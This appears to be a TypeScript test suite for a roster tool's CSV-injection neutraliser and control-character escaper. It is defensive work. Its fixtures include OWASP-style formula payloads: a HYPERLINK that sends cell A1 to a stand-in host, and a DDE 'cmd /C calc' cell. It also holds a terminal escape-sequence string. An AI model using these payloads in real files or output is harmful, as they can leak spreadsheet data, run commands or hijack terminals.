import fc from 'fast-check';
import { escapeControlCharacters } from '../../src/lib/control-characters';
import { formatProblem } from '../../src/roster/problems';
import { neutraliseCell, restoreCell, SpreadsheetCells } from '../../src/roster/spreadsheet-cells';

/** The cells OWASP's CSV injection guidance lists, as the probe exported them. */
const FORMULAS = [
  '=HYPERLINK("http://x.example/?"&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1',
  '\r=1',
];

describe('cells a spreadsheet would run', () => {
  test.each(FORMULAS)('%j is neutralised with a leading quote and read back as it was', (formula) => {
    expect(neutraliseCell(formula)).toBe(`'${formula}`);
    expect(restoreCell(neutraliseCell(formula))).toBe(formula);
  });

  test.each(['Sara', '-5', '+966500000000', '12.5', '', "O'Brien", "'quoted"])('%j is left as it is', (value) => {
    expect([neutraliseCell(value), restoreCell(value)]).toEqual([value, value]);
  });

  test("a value that starts with ' before a formula gets one more, so every value comes back", () => {
    expect(neutraliseCell("'=1")).toBe("''=1");
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', 'a', ' ') }), (value) => {
        expect(restoreCell(neutraliseCell(value))).toBe(value);
      }),
    );
  });

  test('a plain export warns of each cell and writes it exactly; --for-spreadsheet neutralises it', () => {
    const warnings: string[] = [];
    const plain = new SpreadsheetCells(false, (line) => warnings.push(line));
    expect(FORMULAS.map((formula, index) => plain.written('users.csv', index + 2, 4, formula))).toEqual(FORMULAS);
    expect(plain.written('users.csv', 9, 4, 'Sara')).toBe('Sara');
    expect(warnings).toHaveLength(FORMULAS.length);
    expect(warnings[0]).toBe(
      'users.csv: row 2, column 4: a spreadsheet would run this cell as a formula: ' +
        '=HYPERLINK("http://x.example/?"&A1,"Open")',
    );
    expect(warnings[4]).toContain('\\t=1');
    expect(plain.summary()).toContain('6 cells would run as formulas');
    const neutral = new SpreadsheetCells(true, (line) => warnings.push(line));
    expect(neutral.written('users.csv', 2, 4, '=1')).toBe("'=1");
    expect(warnings).toHaveLength(FORMULAS.length);
  });
});

describe('control characters from a bundle', () => {
  const hostile = 'Sara\u001b]0;owned\u0007\u001b[2J\u009b31m\u007f\r\nnext';

  test('are escaped, as JSON writes them', () => {
    const escaped = escapeControlCharacters(hostile);
    expect(escaped).toBe('Sara\\u001b]0;owned\\u0007\\u001b[2J\\u009b31m\\u007f\\r\\nnext');
    expect(escapeControlCharacters(escaped)).toBe(escaped);
    expect(JSON.parse(`"${escaped}"`)).toBe(hostile);
  });

  test('a problem line is one line without them', () => {
    const line = formatProblem({ file: 'users.csv', line: 2, column: 4, rule: 'too-long', message: hostile });
    expect(line).toBe(`users.csv:2:4: too-long: ${escapeControlCharacters(hostile)}`);
    expect(line).not.toContain('\n');
  });
});
